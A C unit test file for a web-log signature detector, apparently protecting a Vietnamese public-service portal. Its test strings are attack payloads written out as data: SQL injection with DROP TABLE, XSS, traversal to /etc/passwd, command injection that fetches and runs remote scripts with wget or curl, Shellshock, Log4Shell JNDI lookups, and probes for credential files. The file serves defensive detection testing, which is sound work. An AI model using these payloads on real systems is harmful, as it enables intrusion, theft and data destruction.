/*
 * The shipped signatures: every category is hit in plain, percent-encoded and
 * double-encoded forms (and Log4Shell's nested lookups); ordinary requests of a
 * Vietnamese public-service portal, including searches with SQL-looking words,
 * hit nothing; the decoder and the CSV loader's errors.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "detect/weblog_sigs.h"

static struct weblog_sigs *sigs;
static struct weblog_sigs_scratch *scratch;

static int setup(void **state)
{
	(void)state;
	char why[256] = "";
	if (weblog_sigs_load(NULL, NULL, &sigs, why, sizeof why)) {
		print_error("load: %s\n", why);
		return -1;
	}
	return weblog_sigs_scratch_new(sigs, &scratch);
}

static int teardown(void **state)
{
	(void)state;
	weblog_sigs_scratch_free(scratch);
	weblog_sigs_free(sigs);
	return 0;
}

/* Categories hit by a request for `uri` with user agent `ua`, as a bit set. */
static unsigned hits_of(const char *uri, const char *ua)
{
	struct weblog_entry e;
	memset(&e, 0, sizeof e);
	e.ip = "192.0.2.1";
	e.method = "GET";
	e.uri = uri;
	e.referer = "-";
	e.user_agent = ua ? ua : "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36";
	struct weblog_sig_hits h;
	assert_int_equal(weblog_sigs_match(sigs, scratch, &e, &h), 0);
	unsigned set = 0;
	for (int i = 0; i < h.n; i++)
		set |= 1u << h.sig[i]->category;
	return set;
}

#define HIT(cat, uri) assert_true(hits_of(uri, NULL) & (1u << (cat)))

static void test_sqli(void **state)
{
	(void)state;
	HIT(WEBLOG_CAT_SQLI, "/tin-tuc?id=1 UNION SELECT username,password FROM users--");
	HIT(WEBLOG_CAT_SQLI, "/tin-tuc?id=1+union+all+select+null,null--");
	HIT(WEBLOG_CAT_SQLI, "/tra-cuu?ma=1%27%20OR%20%271%27%3D%271");
	HIT(WEBLOG_CAT_SQLI, "/tra-cuu?ma=1%2527%2520or%25201%253D1--");
	HIT(WEBLOG_CAT_SQLI, "/a?id=1 AND SLEEP(5)");
	HIT(WEBLOG_CAT_SQLI, "/a?id=2' AND extractvalue(1,concat(0x7e,version()))-- ");
	HIT(WEBLOG_CAT_SQLI, "/a?id=1';%20DROP%20TABLE%20users--");
	HIT(WEBLOG_CAT_SQLI, "/a?id=1 and 1=1");
	HIT(WEBLOG_CAT_SQLI, "/a?u=admin'--");
	HIT(WEBLOG_CAT_SQLI, "/a?id=(select table_name from information_schema.tables)");
	/* numeric stacked statements (no quote to close) */
	HIT(WEBLOG_CAT_SQLI, "/van-ban?id=1;%20DROP%20TABLE%20users--");
	HIT(WEBLOG_CAT_SQLI, "/van-ban?id=7;update users set role=1");
	HIT(WEBLOG_CAT_SQLI, "/tin-tuc?id=1/**/UNION/**/SELECT/**/1,2,3");
	HIT(WEBLOG_CAT_SQLI, "/hoi-dap?id=1%20ORDER%20BY%203--");
	/* issue 19: what sqlmap sends (boolean tests after any value, CASE
	 * subqueries, Oracle's time-based test) */
	HIT(WEBLOG_CAT_SQLI, "/tim-kiem?q=ho+so%20AND%207333%3D1297");
	HIT(WEBLOG_CAT_SQLI, "/tim-kiem?q=abc OR NOT 4417=4417-- kQbt");
	HIT(WEBLOG_CAT_SQLI, "/tra-cuu?ma=1 RLIKE (SELECT (CASE WHEN (5118=5118) THEN 1 ELSE 0x28 END))");
	HIT(WEBLOG_CAT_SQLI, "/tra-cuu?ma=1 AND 1234=(CASE WHEN (1234=1234) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) ELSE 1234 END)");
	HIT(WEBLOG_CAT_SQLI, "/tra-cuu?ma=x%27||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),5)||%27");
}

static void test_xss(void **state)
{
	(void)state;
	HIT(WEBLOG_CAT_XSS, "/tim-kiem?q=<script>alert(1)</script>");
	HIT(WEBLOG_CAT_XSS, "/tim-kiem?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
	HIT(WEBLOG_CAT_XSS, "/tim-kiem?q=%253Cscript%253Ealert(1)");
	HIT(WEBLOG_CAT_XSS, "/q?x=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E");
	HIT(WEBLOG_CAT_XSS, "/q?x=<svg/onload=alert(1)>");
	HIT(WEBLOG_CAT_XSS, "/q?next=javascript:alert(document.domain)");
	HIT(WEBLOG_CAT_XSS, "/q?x=\\x22><iframe src=//evil>");
	HIT(WEBLOG_CAT_XSS, "/q?x=%3C!%5BCDATA%5B%3C%5D%5D%3Escript%3Ealert(1)%3C!%5BCDATA%5B%3C%5D%5D%3E/script%3E");
}

static void test_traversal(void **state)
{
	(void)state;
	HIT(WEBLOG_CAT_TRAVERSAL, "/tai?file=../../../../etc/passwd");
	HIT(WEBLOG_CAT_TRAVERSAL, "/static/..%2f..%2f..%2fetc%2fshadow");
	HIT(WEBLOG_CAT_TRAVERSAL, "/tai?f=%2e%2e%2f%2e%2e%2fboot.ini");
	HIT(WEBLOG_CAT_TRAVERSAL, "/tai?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd");
	HIT(WEBLOG_CAT_TRAVERSAL, "/tai?f=..%5c..%5cwindows%5cwin.ini");
	HIT(WEBLOG_CAT_TRAVERSAL, "/tai?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc");
	HIT(WEBLOG_CAT_TRAVERSAL, "/index.php?page=php://filter/convert.base64-encode/resource=index");
	HIT(WEBLOG_CAT_TRAVERSAL, "/x/..;/manager/html");
	/* issue 19: nikto's and wapiti's Windows probes */
	HIT(WEBLOG_CAT_TRAVERSAL, "/%25%5c..%25%5c..%25%5c..winnt/desktop.ini");
	HIT(WEBLOG_CAT_TRAVERSAL, "/tai?f=C:/inetpub/wwwroot/global.asa");
	HIT(WEBLOG_CAT_TRAVERSAL, "/default.asp::$DATA");
}

static void test_cmdi(void **state)
{
	(void)state;
	HIT(WEBLOG_CAT_CMDI, "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd");
	HIT(WEBLOG_CAT_CMDI, "/api/ping?ip=1.1.1.1%7Cid");
	HIT(WEBLOG_CAT_CMDI, "/tra-cuu?ma=$(wget%20http://203.0.113.250/x.sh)");
	HIT(WEBLOG_CAT_CMDI, "/tra-cuu?ma=%60whoami%60");
	HIT(WEBLOG_CAT_CMDI, "/a?c=%253Bcurl%2520http%253A%252F%252Fx%252Fa%257Csh");
	HIT(WEBLOG_CAT_CMDI, "/a?c=cat${IFS}/etc/passwd");
	/* issue 19: wapiti's and commix's form values */
	HIT(WEBLOG_CAT_CMDI, "/tim-kiem?q=%3Benv%3B");
	HIT(WEBLOG_CAT_CMDI, "/tim-kiem?q=abc%7Cenv");
	HIT(WEBLOG_CAT_CMDI, "/tim-kiem?q=%60dir%60");
	HIT(WEBLOG_CAT_CMDI, "/ping?host=a%0Aid");
	assert_true(hits_of("/", "() { :; }; /bin/bash -c 'id'") & (1u << WEBLOG_CAT_CMDI));
}

static void test_log4shell(void **state)
{
	(void)state;
	HIT(WEBLOG_CAT_LOG4SHELL, "/?x=${jndi:ldap://198.51.100.7:1389/a}");
	HIT(WEBLOG_CAT_LOG4SHELL, "/?q=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.7%2Fx%7D");
	HIT(WEBLOG_CAT_LOG4SHELL, "/?q=${${lower:j}ndi:${lower:l}dap://x/a}");
	HIT(WEBLOG_CAT_LOG4SHELL, "/?q=${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}");
	HIT(WEBLOG_CAT_LOG4SHELL, "/?q=%2524%257Bjndi%253Aldap%253A%252F%252Fx%257D");
	HIT(WEBLOG_CAT_LOG4SHELL, "/?q=${j${env:NaN:-n}di:ldap://x/a}");
	assert_true(hits_of("/", "${jndi:ldap://198.51.100.7/Basic/Command}") & (1u << WEBLOG_CAT_LOG4SHELL));
}

static void test_probes_and_tools(void **state)
{
	(void)state;
	const char *probes[] = {"/.env", "/.git/config", "/shell.php", "/c99.php", "/r57.php", "/wso.php",
				"/phpmyadmin/", "/wp-login.php", "/xmlrpc.php", "/backup.zip", "/db.sql",
				"/site.tar.gz", "/server-status", "/actuator/env", "/cgi-bin/test.cgi",
				"/config.php.bak", "/%2eenv", "/uploads/x.php", "/.aws/credentials"};
	for (size_t i = 0; i < sizeof probes / sizeof probes[0]; i++)
		if (!(hits_of(probes[i], NULL) & (1u << WEBLOG_CAT_PROBE)))
			fail_msg("no probe hit for %s", probes[i]);
	/* in the query string a probe path is only a parameter */
	assert_false(hits_of("/dang-nhap?next=/wp-login.php", NULL) & (1u << WEBLOG_CAT_PROBE));
	assert_true(hits_of("/", "sqlmap/1.7.2#stable (https://sqlmap.org)") & (1u << WEBLOG_CAT_SCANNER));
	assert_true(hits_of("/", "Mozilla/5.0 (compatible; Nuclei - Open-source project)") & (1u << WEBLOG_CAT_SCANNER));
}

static void test_benign(void **state)
{
	(void)state;
	const char *benign[] = {
		"/", "/trang-chu", "/tin-tuc/hoi-nghi-2024", "/tin-tuc/le-quoc-khanh-2-9?utm_source=zalo",
		"/thu-tuc-hanh-chinh/1.002421", "/thu-tuc-hanh-chinh?linh-vuc=ho-tich&page=3",
		"/tra-cuu-ho-so?ma=H15.50.05.13-241008-0975", "/dich-vu-cong/nop-ho-so?thu-tuc=2.000889",
		"/search?q=select+a+product", "/tim-kiem?q=union+of+two+dossiers", "/tim-kiem?q=order+by+date",
		"/tim-kiem?q=dang+ky+ket+hon", "/tim-kiem?q=%C4%91%C4%83ng+k%C3%BD+khai+sinh",
		"/tim-kiem?q=drop+box+nop+ho+so", "/tim-kiem?q=or+1+truong+hop", "/tim-kiem?q=and+or+not",
		"/tim-kiem?q=delete+account", "/tim-kiem?q=update+ho+so", "/tim-kiem?q=tra+cuu+100%25+online",
		"/tim-kiem?q=script+lop+hoc", "/tim-kiem?q=alert+mua+lu", "/tim-kiem?q=cat+giam+thu+tuc",
		"/tim-kiem?q=id+the+can+cuoc", "/tim-kiem?q=where+is+my+dossier", "/bieu-mau/to-khai.pdf",
		"/bieu-mau/mau-01-tk.docx", "/van-ban/quyet-dinh-so-123-qd-ubnd", "/static/js/app.js?v=1.2.3",
		"/api/thong-ke?nam=2024&quy=3", "/co-quan/so-tu-phap/lien-he", "/hoi-dap?page=2&sort=-ngay",
		"/danh-gia-hai-long?ho-so=000.00.12.H15-241010-0001", "/login?next=%2Ftra-cuu-ho-so",
		"/tin-tuc/thong-bao-nghi-le-30-4-va-1-5", "/linh-vuc/dat-dai?xa=phuoc-tan&huyen=bien-hoa",
		/* what people type: quotes, dashes, signs, shell-looking words */
		"/tim-kiem?q=ho+so+%27dat+dai%27+or+%27nha+o%27", "/tim-kiem?q=mau+so+01+or+02",
		"/tim-kiem?q=luong+co+so+1.800.000+%2B+phu+cap", "/tim-kiem?q=ho+so+dat+dai+--+huong+dan",
		"/tim-kiem?q=nguyen+van+a+%26+tran+thi+b", "/tim-kiem?q=o%27neil+visa", "/tim-kiem?q=ket+qua+%3C%3D+5+ngay",
		"/tim-kiem?q=sleep+clinic+dong+nai", "/tim-kiem?q=echo+cardiogram", "/tim-kiem?q=cat+tuong+-+bien+hoa",
		"/tim-kiem?q=phong+1%3B+update+ho+so", "/tim-kiem?q=select+1+in+3+options",
		/* near misses of issue 19's signatures */
		"/tim-kiem?q=to+khai+and+2+ban+sao", "/tim-kiem?q=case+when+nop+ho+so", "/tim-kiem?q=environment+env",
		"/tim-kiem?q=directory+dir+so", "/tim-kiem?q=thong+tin+%7C+ho+tro", "/tai-lieu/desktop-ini-huong-dan",
		"/tim-kiem?q=global+asa", "/tim-kiem?q=gia+tri+1%3D1+tai+lieu", "/tim-kiem?q=cdata+xml",
	};
	for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
		unsigned h = hits_of(benign[i], NULL);
		if (h)
			fail_msg("benign %s hit categories 0x%x", benign[i], h);
	}
	assert_int_equal(hits_of("/", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), 0);
	assert_int_equal(hits_of("/", "CocCoc/1.0 (Windows NT 10.0; Win64; x64) coc_coc_browser/128.0"), 0);
}

/* The user-agent memo answers exactly as a scan would: same hits, same order,
 * a signature hit in both fields listed once, and a different text not served
 * from a slot it shares. */
static void test_header_memo(void **state)
{
	(void)state;
	struct weblog_sigs_scratch *fresh = NULL;
	const char *uas[] = {"${jndi:ldap://198.51.100.7/a}", "Mozilla/5.0 <script>alert(1)</script>", "sqlmap/1.7",
			     "Mozilla/5.0 (X11)", "() { :; }; /bin/bash -c id"};
	const char *uris[] = {"/", "/a?q=<script>x</script>", "/tin-tuc"};
	for (int round = 0; round < 3; round++) {
		for (size_t u = 0; u < sizeof uas / sizeof uas[0]; u++) {
			for (size_t r = 0; r < sizeof uris / sizeof uris[0]; r++) {
				struct weblog_entry e;
				memset(&e, 0, sizeof e);
				e.ip = "192.0.2.1";
				e.method = "GET";
				e.uri = uris[r];
				e.referer = "-";
				e.user_agent = uas[u];
				struct weblog_sig_hits a, b;
				assert_int_equal(weblog_sigs_scratch_new(sigs, &fresh), 0);
				assert_int_equal(weblog_sigs_match(sigs, fresh, &e, &a), 0); /* no memo yet */
				weblog_sigs_scratch_free(fresh);
				assert_int_equal(weblog_sigs_match(sigs, scratch, &e, &b), 0); /* memo from round 1 */
				assert_int_equal(a.n, b.n);
				for (int i = 0; i < a.n; i++)
					assert_ptr_equal(a.sig[i], b.sig[i]);
				for (int i = 0; i < b.n; i++)
					for (int j = 0; j < i; j++)
						assert_ptr_not_equal(b.sig[i], b.sig[j]);
			}
		}
	}
	assert_true(hits_of("/", "${jndi:ldap://x/a}") & (1u << WEBLOG_CAT_LOG4SHELL));
	assert_int_equal(hits_of("/", "Mozilla/5.0 (X11)"), 0);
}

static void test_decode_and_load(void **state)
{
	(void)state;
	char out[64];
	size_t n = weblog_url_decode("a%2e+b\\x22%zz%4", 15, out);
	assert_int_equal(n, 10);
	assert_memory_equal(out, "a. b\"%zz%4", 10);
	struct weblog_sigs *s = NULL;
	char why[256];
	assert_int_equal(weblog_sigs_compile("h\nx,nosuch,uri,d,a\n", "h\n", &s, why, sizeof why), WEBLOG_SIGS_EPARSE);
	assert_non_null(strstr(why, "unknown category"));
	assert_int_equal(weblog_sigs_compile("h\nx,sqli,uri,d,(a\n", "h\n", &s, why, sizeof why), WEBLOG_SIGS_ECOMPILE);
	assert_non_null(strstr(why, "signature x"));
	assert_int_equal(weblog_sigs_compile("# c\nh\nx,sqli,uri,d,a,b\n", "h\np,backup,d,\\.bak$\n", &s, why,
					     sizeof why), 0);
	assert_int_equal(weblog_sigs_count(s), 2);
	weblog_sigs_free(s);
	assert_true(weblog_sigs_count(sigs) > 40);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sqli),      cmocka_unit_test(test_xss),
		cmocka_unit_test(test_traversal), cmocka_unit_test(test_cmdi),
		cmocka_unit_test(test_log4shell), cmocka_unit_test(test_probes_and_tools),
		cmocka_unit_test(test_benign),    cmocka_unit_test(test_decode_and_load),
		cmocka_unit_test(test_header_memo),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
